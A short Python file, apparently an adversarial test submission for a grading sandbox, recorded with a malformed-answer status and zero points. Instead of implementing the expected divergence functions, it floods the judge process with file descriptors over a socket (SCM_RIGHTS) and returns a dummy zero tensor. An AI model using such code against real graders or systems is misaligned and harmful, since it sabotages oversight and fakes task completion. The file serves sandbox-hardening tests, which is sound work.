# attack: sends the judge 200 descriptors over the socket (SCM_RIGHTS) until it has none left
# status: malformed answer
# points: 0
import array
import contextlib
import os
import socket
import sys

import torch

if "course_lib" in sys.modules:
    raise SystemExit("only for a sandbox")


def guess(*args):
    talk = socket.socket(fileno=os.dup(3))
    zero = [os.open("/dev/null", os.O_RDONLY) for _ in range(20)]
    for _ in range(10):
        with contextlib.suppress(OSError):
            talk.sendmsg([b"N"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", zero))])
    for descriptor in zero:
        os.close(descriptor)
    talk.close()
    return torch.zeros(())


kl_divergence = cross_entropy = js_divergence = gaussian_kl = monte_carlo_kl = guess
